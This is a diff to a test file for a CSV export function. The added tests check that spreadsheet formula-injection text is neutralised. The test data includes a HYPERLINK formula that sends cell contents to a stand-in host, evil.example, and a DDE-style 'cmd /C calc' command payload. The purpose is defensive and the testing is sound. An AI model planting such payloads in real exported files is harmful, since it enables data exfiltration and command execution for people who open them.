@@ -12,9 +12,32 @@ describe('toCsv', () => {
   });
 
   it('round-trips awkward text through a strict reader', () => {
-    const awkward = ['', ' padded ', '"', '""', ',', '\r\n', 'é ≠ 🌡', '=1+1', 'tab\there', 'trailing,', '"quoted"'];
+    const awkward = ['', ' padded ', '"', '""', ',', '\n\r', 'é ≠ 🌡', '1=1+1', 'tab\there', 'trailing,', '"quoted"'];
     const rows = awkward.map((value, index) => ({ index: String(index), value }));
     expect(parseCsvRecords(toCsv(rows))).toEqual(rows);
+  });
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
+    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['-3', "'-3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+  ])('neutralises text that a spreadsheet would read as a formula: %j', (text, field) => {
+    expect(csvField(text)).toBe(field);
+    // A strict reader gets the text back behind the single quote spreadsheets hide.
+    expect(parseCsvRecords(toCsv([{ value: text }]))).toEqual([{ value: `'${text}` }]);
+  });
+
+  it('leaves numbers the gateway produces as numbers, negative ones too, and harmless text alone', () => {
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField(-0.5)).toBe('-0.5');
+    expect(csvField(-10n)).toBe('-10');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField(' =1')).toBe(' =1');
+    expect(csvField({ a: '=1' })).toBe('"{""a"":""=1""}"');
   });
 
   it('maps values the way their JSON reads', () => {
